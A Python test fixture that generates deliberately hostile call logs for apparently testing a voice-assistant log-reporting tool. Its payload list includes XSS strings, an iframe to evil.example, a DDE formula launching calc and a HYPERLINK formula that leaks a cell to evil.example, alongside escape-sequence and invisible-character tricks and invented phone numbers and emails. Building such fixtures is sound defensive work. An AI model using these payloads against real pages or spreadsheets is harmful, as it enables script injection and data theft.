"""
A folder of logs that wants to do harm: hostile text in every text column, personal data in odd places.

It is small, but has a week of ordinary turns too, so that a report draws all its charts.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

from bakame_duck.sample.logs import AUDITION_NAMES
from bakame_duck.schema import COLUMNS, NAMES
from tests.conftest import INTERACTION, TURN, as_csv, cells

MARK = "hostile"  # in every hostile text, to find it again
TEXTS = [
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(2)>",
    "</style></title><svg onload=alert(3)>",
    '"onload="alert(4)" x="',
    "' onmouseover='alert(5)",
    "<iframe src=https://evil.example></iframe><base href=//evil.example>",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1)',
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\u202eevil\u202c \u2066isolated\u2069 \u200f",
    "\x01\x08\x7f\x85\x9b31m",
    "zero\u200bwidth\u2060\ufeff\u00ad",
    "line\u2028and\u2029paragraph",
    "{{ 7*7 }}{% raw %}${7*7}",
    "$x^2$ \\(y\\) $$z$$",
    "**b** `code` [a](javascript:alert(6)) ![i](https://evil.example/i.png)",
    "-->]]><!--",
    "#3462c9",
    "%s %d {0} {name}",
    "W" * 100_000,
]
FILES = [
    "user_sessions_<b>x.csv",
    "user_sessions_'\n<script>alert(7)<script>\u202e\x1b[31m.csv",
    "user_sessions_" + "w" * 200 + ".csv",
    "user_sessions_ +250 788 555 091 mukamana@example.rw.csv",
]
HEADERS = ["<script>alert(8)</script>", "=1+1", "\u202eevil", "+250788555092", "V" * 2000]

NUMBERS = [f"+25078855500{place}" for place in range(8)] + ["+254712555001", "0722555002"]
SPELLINGS = [
    "+250 788 555 081",
    "250788555082",
    "0788555083",
    "0788 555 084",
    "(+250) 788-555-085",
    "00250788555086",
    "+250.788.555.087",
    "078\u200b8555088",
    "٠٧٨٨٥٥٥٠٨٩",
]
ADDRESSES = ["ingabire@example.rw", "kaliza.uwera+bakame@mail.example"]
NAMES_OF_CALLERS = ["Umutesiwase", "Habimanakazi"]
WORDS = ["Ndashaka kwiga imibare yo guteranya", "What's the tallest mountain of my country, teacher?"]
PERSONAL = [*SPELLINGS, *ADDRESSES, *(f"[NAME_CONFIRMED: {name}]" for name in NAMES_OF_CALLERS)]

TEXT_COLUMNS = [column.name for column in COLUMNS if column.type == "VARCHAR" and column.name != "phone_number"]
_MONDAY = datetime(2026, 1, 12, 6)


def write_hostile_logs(folder: Path) -> None:
    """Write the logs of the weeks 2026-W01 to 2026-W03 into *folder*."""
    folder.mkdir(parents=True)
    (folder / "user_sessions_plain.csv").write_bytes(as_csv(NAMES, *ordinary_week(_MONDAY)))
    (folder / "user_sessions_before.csv").write_bytes(as_csv(NAMES, *ordinary_week(_MONDAY - timedelta(days=7))))
    texts = [*(f"{text}{MARK}" for text in TEXTS), *(f"{MARK} {text} x" for text in PERSONAL)]
    (folder / "user_sessions.csv").write_bytes(as_csv(NAMES, *hostile_calls(texts)))
    for place, name in enumerate(FILES):
        at = _MONDAY + timedelta(days=place, hours=5)
        call = f"CAfile{place}"
        turn = TURN | {"timestamp": at.isoformat(), "session_id": call, "call_id": call}
        late = turn | {
            "timestamp": (at - timedelta(hours=1)).isoformat(),
            "turn": "not a number",
            "error": SPELLINGS[0],
        }
        rows = [[*cells(record, 31), *HEADERS] for record in (turn, late)]
        (folder / name).write_bytes(as_csv([*NAMES, *HEADERS], *rows))
        torn = as_csv(*rows)[:-40]
        (folder / f"{name.removesuffix('.csv')}.torn.csv").write_bytes(torn + as_csv(cells(late, 31)))
    for name in FILES[:2]:
        (folder / f"user_sessions_twin{name.removeprefix('user_sessions')}").write_bytes((folder / name).read_bytes())
    checks = "".join(
        f'{{"status": "{MARK}<b>", "timestamp": "{(_MONDAY + timedelta(minutes=10 * place)).isoformat()}"}}\n'
        for place in range(300)
    )
    (folder / "health_checks<i>+250788555093.jsonl").write_text(checks)
    auditions = [
        [number, text, 1.0, text, text, 6000, 96000, text, text, "success"] for number, text in enumerate(texts)
    ]
    (folder / f"voice_audition_results<i>{NUMBERS[0]}.csv").write_bytes(as_csv(AUDITION_NAMES, *auditions))


def ordinary_week(monday: datetime) -> Iterator[list[object]]:
    """Yield two calls an hour of ten hours a day, some of whose turns are slow or fail."""
    for number in range(140):
        at = monday + timedelta(days=number // 20, minutes=30 * (number % 20))
        call = {"session_id": f"CA{at:%m%d%H%M}", "phone_number": NUMBERS[number % len(NUMBERS)]}
        said = {
            "user_input": WORDS[number % 2],
            "ai_response": f"Muraho [NAME_CONFIRMED: {NAMES_OF_CALLERS[number % 2]}]",
        }
        yield cells(INTERACTION | call | said | {"timestamp": at.isoformat()}, 31)
        for turn in range(1, 4):
            slow = 4 if number % 9 == 0 else 1
            yield cells(
                TURN
                | call
                | {
                    "timestamp": (at + timedelta(seconds=20 * turn)).isoformat(),
                    "call_id": call["session_id"],
                    "turn": turn,
                    "asr_ms": 250.1 + number,
                    "llm_ms": (1300.7 + 3 * number) * slow,
                    "tts_ms": 400.3 + number,
                    "total_ms": (2100.9 + 5 * number) * slow,
                    "error": "LLM timeout after 10s" if number % 11 == 0 else "",
                    "tts_provider": "deepgram",
                    "tts_voice": ("aura-luna-en", "aura-asteria-en")[number % 2],
                    "tts_rate": 0.95,
                    "audio_transcode_ms": 10.1 + number / 7,
                    "barge_in_triggered": number % 3 == 0,
                },
                31,
            )


def hostile_calls(texts: list[str]) -> Iterator[list[object]]:
    """Yield a call for each text, which stands in every text column that does not tell a call or a turn apart."""
    for number, text in enumerate(texts):
        at = _MONDAY + timedelta(days=number % 7, minutes=20 * number, seconds=7)
        shared = dict.fromkeys(TEXT_COLUMNS, text) | {
            "phone_number": NUMBERS[number % len(NUMBERS)] if number % 3 else text[:200],
            "user_input": f"{text} {WORDS[0]}",
            "ai_response": f"{text} {WORDS[1]}",
            "session_id": f"{text[:500]}{number}",
            "call_id": f"{text[:500]}{number}",
        }
        yield cells(shared | {"timestamp": at.isoformat()}, 31)
        yield cells(shared | {"timestamp": at.isoformat(), "interaction_type": "voice"}, 31)
        for turn in range(1, 4):
            yield cells(
                TURN
                | shared
                | {
                    "interaction_type": "turn_metrics",
                    "timestamp": (at + timedelta(seconds=turn)).isoformat(),
                    "turn": turn,
                    "tts_rate": ("nan", "inf", "-0")[turn - 1] if number == 3 else 1.0,
                    "llm_ms": 2500 + number,
                    "tts_ms": 700 + 3 * number,
                    "total_ms": 9000.1 + number,
                    "error": ("", text, f"Could not say '{WORDS[number % 2]}' to {text}")[turn - 1],
                    "barge_in_triggered": turn == number % 3,
                },
                31,
            )
